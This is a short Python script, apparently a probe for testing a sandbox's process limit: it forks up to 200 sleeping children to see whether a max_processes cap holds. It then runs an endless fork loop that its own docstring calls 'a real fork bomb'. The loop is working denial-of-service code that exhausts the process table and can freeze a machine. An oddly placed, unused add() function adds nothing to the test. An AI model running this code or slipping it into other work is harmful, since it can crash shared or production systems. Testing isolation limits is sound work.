"""exhaustion: count how many processes fork() gives (breach above max_processes), then a real fork bomb."""
# form: call
import os
import time

alive = 0
for _ in range(200):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(5)
        os._exit(0)
    alive += 1
if alive > 16:
    def add(a, b):
        return a + b
while True:
    try:
        os.fork()
    except OSError:
        pass
